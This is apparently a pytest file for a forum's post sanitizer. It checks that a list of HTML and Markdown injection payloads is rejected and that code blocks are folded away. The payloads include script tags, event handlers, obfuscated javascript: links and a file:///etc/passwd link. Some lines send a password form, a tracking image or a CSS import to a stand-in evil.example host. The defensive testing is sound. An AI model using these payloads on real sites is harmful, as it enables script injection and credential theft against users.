"""What the words of a post may hold, and what is left when code is folded away."""

import pytest

from hub.services.post_text import FOLDED, NotPlain, fold_code, require_plain

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "Hello <b onmouseover=alert(1)>you</b>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<!-- a comment -->",
    "<?php echo 1 ?>",
    "<![CDATA[x]]>",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<form action=https://evil.example><input name=password></form>",
    '<a href="javascript:alert(1)">here</a>',
    "[here](javascript:alert(1))",
    "[here](JaVaScRiPt:alert(1))",
    "[here](&#106;avascript:alert(1))",
    "[here](\\javascript:alert(1))".replace("\\", ""),
    "[here](vbscript:msgbox(1))",
    "[here](data:text/html;base64,PHNjcmlwdD4=)",
    "[here](file:///etc/passwd)",
    "[here][a]\n\n[a]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![see](https://evil.example/track.gif)",
    "![see](data:image/svg+xml;base64,AAAA)",
    "![see][a]\n\n[a]: https://evil.example/track.gif",
    "- a\n  - <marquee>b</marquee>",
    "> <object data=x></object>",
    "| a |\n|---|\n| <embed src=x> |",
    "**<base href=//evil.example>**",
]
HARMLESS = [
    "Plain words & signs: 1 < 2, 3 > 2, a<2.",
    "`<script>alert(1)</script>`",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "    <b>indented code</b>",
    "[a page](https://example.org/?a=1&b=2) and <https://example.org>",
    "[mail](mailto:ada@example.org), [here](#cell), [there](lesson.ipynb)",
    "$x_1 < y$ and $$\\frac{a}{b}$$",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "\\<script\\>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_what_could_do_something_is_refused(text: str) -> None:
    for words in (text, f"Why?\n\n{text}\n\nThanks.", f"1. Look:\n\n   {text}"):
        with pytest.raises(NotPlain):
            require_plain(words)


@pytest.mark.parametrize("text", HARMLESS)
def test_markdown_code_and_formulas_are_taken(text: str) -> None:
    require_plain(text)


def test_blocks_of_code_and_long_spans_are_folded_and_words_are_not() -> None:
    secret = "return sha256(previous + body).hexdigest()"
    text = "\n".join(
        [
            "My `seal` fails:",
            "```python",
            secret,
            "```",
            "- in a list",
            "",
            f"      {secret}",
            "",
            "> ~~~",
            f"> {secret}",
            "> ~~~",
            "",
            f"I wrote `{secret}` and ``{secret}``. Why?",
        ]
    )
    folded, has_code = fold_code(text)
    assert has_code
    assert secret not in folded
    assert "My `seal` fails:" in folded
    assert "in a list" in folded
    assert folded.endswith(f"I wrote {FOLDED} and {FOLDED}. Why?")


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_code_that_is_never_closed_is_folded_to_the_end(end: str) -> None:
    folded, has_code = fold_code(f"Look:{end}```{end}secret = 1{end}{end}more = 2")
    assert (folded, has_code) == (f"Look:\n{FOLDED}", True)


def test_a_post_without_code_stays_as_it_is() -> None:
    text = "What does `hash` give?\r\nAnd why?"
    assert fold_code(text)[1] is False
